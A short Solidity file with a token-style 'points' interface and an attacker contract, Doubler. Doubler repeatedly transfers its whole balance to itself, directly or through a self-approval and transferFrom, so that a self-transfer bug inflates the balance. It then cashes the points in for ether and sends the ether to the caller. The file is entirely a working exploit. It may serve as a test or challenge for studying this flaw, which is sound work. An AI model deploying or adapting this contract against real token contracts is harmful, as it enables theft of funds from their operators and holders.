// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPoints {
    function transfer(address to, uint256 value) external returns (bool);

    function transferFrom(address from, address to, uint256 value) external returns (bool);

    function transferMany(address[] calldata to, uint256[] calldata values) external;

    function approve(address spender, uint256 value) external returns (bool);

    function balanceOf(address holder) external view returns (uint256);

    function cashIn(uint256 points) external;
}

/// Holds a few points and sends them to itself until they are many.
contract Doubler {
    function run(IPoints points, uint256 times) external {
        for (uint256 i = 0; i < times; i++) points.transfer(address(this), points.balanceOf(address(this)));
        leave(points);
    }

    function runByAllowance(IPoints points, uint256 times) external {
        points.approve(address(this), type(uint256).max);
        for (uint256 i = 0; i < times; i++)
            points.transferFrom(address(this), address(this), points.balanceOf(address(this)));
        leave(points);
    }

    function leave(IPoints points) private {
        points.cashIn(points.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
